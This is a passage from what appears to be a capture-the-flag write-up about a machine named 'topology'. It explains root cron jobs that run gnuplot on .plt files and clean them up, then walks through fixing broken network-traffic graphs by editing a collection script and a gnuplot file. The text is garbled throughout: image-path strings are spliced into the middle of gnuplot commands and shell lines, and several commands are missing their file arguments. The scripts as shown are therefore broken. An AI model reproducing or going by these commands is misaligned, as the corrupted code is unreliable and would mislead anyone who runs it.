The secondcron is running gnuplot every minute to generate images with this command: find "/opt/gnuplot" -name "*.plt" -exec gnuplot {} \;

That will find all files in /opt/gnuplot that end in .plt, and then execute gnuplot [file] on each.


The third cron runs every 10 minutes, as specified by */10 * * * * ( is a nice resource for decoding this if it’s not familiar).

It runs a more complicated find:

find "/opt/gnuplot" -name "*.plt" -mmin +5 -mmin -300 -exec /usr/bin/rm -rf {} \;

It’s searching in the /opt/gnuplot directory for files that end in .plt, are at least 5 minutes old (-mmin +5) and less than 300 minutes old (-mmin 300). Any files that match are passed into rm -rf [file], so removed. This cron is just cleaning up user created .plt files.



I’ll start with loadplot.plt, as it seems to be working.

set terminal pngcairo size 350,262 enhanced font 'Verdana,10'
set output '/var/www/stats/files/load.png'

set key top left
set title "Server load"
# Set first two line styles to blue (#0060ad) and red (#dd181f)
set style line 1 \
    linecolor rgb '#0060ad' \
    linetype 1 linewidth 2 \
    pointtype 7 pointsize 1.5set style line 2 \
    linecolor rgb '#dd181f' \
    linetype 1 linewidth 2 \
    pointtype 5 pointsize 1.5

plot '/opt/gnuplot/loaddata.dat' using (column(0)):1 title "1 min average" axis x1y1 with lines linestyle 1

On the second line it sets the output file to within the webserver. Then it sets a bunch of style stuff. Finally it calls plot on loaddata.dat to generate the plot.


On first glance, networkplot.plt looks very similar:

setterminal pngcairo size 350,262 enhanced font 'Verdana,10'
set output'/var/www/stats/files/network.png'

set key top left
set title "Network traffic"
# Setfirst two line styles to blue (#0060ad) and red (#dd181f)
set style line 1 \
    linecolor rgb '#0060ad' \
    linetype 1 linewidth 2 \
    pointtype 7 pointsize 1.5
set style line 2 \
    linecolor rgb '#dd181f' \
    linetype 1 linewidth 2 \
    pointtype 5 pointsize 1.5

plot '/var/www/gnuplot/netdata.dat' using (column(0)):1 title "Bytes received" axis x1y1 with lines linestyle 1, \
     '/var/www/gnuplot/netdata.dat' using (column(0)):2 title "Bytes sent" axis x1y2 with lines linestyle 2

It also sets the output file in the stats web directory. The issue is in the plot command. It’s trying to load netdata.dat from the wrong directory!

root@topology:/opt/gnuplot# ls /var/www/gnuplot/netdata.dat
ls: cannot access '/var/www/gnuplot/netdata.dat': No such file or directory

This error can also be seen by running gnuplot:

root@topology:/opt/gnuplot# gnuplot networkplot.plt
"networkplot.plt" line 17: warning: Cannot find or open file"/var/www/gnuplot/netdata.dat""networkplot.plt" line 17: warning: Cannot find or open file "/var/www/gnuplot/netdata.dat"
"networkplot.plt" line 17: No data in plot

Fixing It

The file is immutable, so even root can’t edit it:

root@topology:/opt/gnuplot# lsattr

I’ll unset that:

root@topology:/opt/gnuplot# chattr -i

Now I can change “esp” to “eth” so new data will start flowing:

# get network data
netstat -i | grep eth | tr -s ' ' | cut -d ' ' -f3,7 >> /opt/gnuplot/netdata.dat
# get uptime data
uptime | grep -o "load average:.*$" | cut -d' ' -f 3 | sed 's/,//g' >> /opt/gnuplot/loaddata.dat
# get only the last 60 values
#sed -i '61,$ d' /opt/gnuplot/netdata.datecho "$(tail -60 /opt/gnuplot/netdata.dat)" > /opt/gnuplot/netdata.dat
#sed -i '61,$ d' /opt/gnuplot/loaddata.dat
echo "$(tail -60 /opt/gnuplot/loaddata.dat)" > /opt/gnuplot/loaddata.dat

It works:

root@topology:/opt/gnuplot# tail -1 netdata.dat
215 210
root@topology:/opt/gnuplot# ./
root@topology:/opt/gnuplot# tail -2netdata.dat
215 210
419536 679193


In this one, I just need to change two instances of /var/www to /opt on the last line:

set terminal pngcairo size350,262 enhanced font 'Verdana,10'
set output '/var/www/stats/files/network.png'

set key top left
set title "Network traffic"
# Set first two line styles to blue (#0060ad) and red (#dd181f)
set style line 1 \
    linecolor rgb '#0060ad' \
    linetype 1 linewidth 2 \
    pointtype 7 pointsize 1.5
set style line 2 \
    linecolor rgb '#dd181f' \
    linetype 1 linewidth 2 \
    pointtype 5 pointsize 1.5

plot '/opt/gnuplot/netdata.dat' using (column(0)):1 title "Bytes received" axis x1y1 with lines linestyle 1, \
     '/opt/gnuplot/netdata.dat' using (column(0)):2 title "Bytes sent" axis x1y2 with lines linestyle 2Now running gnuplot networkplot.pltruns without error.


Now refreshing the website shows two plots: